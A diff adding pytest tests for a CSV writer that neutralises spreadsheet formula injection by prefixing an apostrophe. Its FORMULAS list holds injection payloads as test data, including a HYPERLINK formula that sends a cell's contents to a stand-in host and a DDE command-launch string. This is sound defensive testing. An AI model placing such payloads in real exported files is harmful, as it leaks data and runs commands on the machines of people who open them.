@@ -1,0 +1,69 @@
+"""No text becomes a formula in a spreadsheet, and no number is touched."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import polars as pl
+import pytest
+
+from tasks.texts.csv_text import write_safe_csv
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example?"&A1,"click")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\n=cmd|' /C calc'!A0",
+    "\ufeff=1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "- a list",
+    "--1",
+]
+PLAIN = [
+    "-1.5",
+    "+3",
+    "-2e-5",
+    "-.5",
+    "12%",
+    "-3%",
+    "1-2",
+    "a=b",
+    "'=1",
+    "",
+    "x@y.example",
+    "答案：=1",
+    "–",
+    "−1+1",
+]
+
+
+def read_back(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe_in_front(text: str) -> None:
+    frame = pl.DataFrame({"n": [1], text: [text]})
+    assert read_back(write_safe_csv(frame)) == [["n", "'" + text], ["1", "'" + text]]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_other_texts_and_numbers_as_text_are_written_exactly(text: str) -> None:
+    assert read_back(write_safe_csv(pl.DataFrame({"n": [1], "text": [text]}))) == [["n", "text"], ["1", text]]
+
+
+def test_numbers_nulls_and_categories_keep_their_form() -> None:
+    frame = pl.DataFrame(
+        {"x": [-1.5, None], "n": [-2, 3], "kind": pl.Series(["=a", None], dtype=pl.Categorical)}
+    )
+    assert read_back(write_safe_csv(frame)) == [["x", "n", "kind"], ["-1.5", "-2", "'=a"], ["", "3", ""]]
+    assert write_safe_csv(frame, has_header=False).splitlines()[0] == "-1.5,-2,'=a"
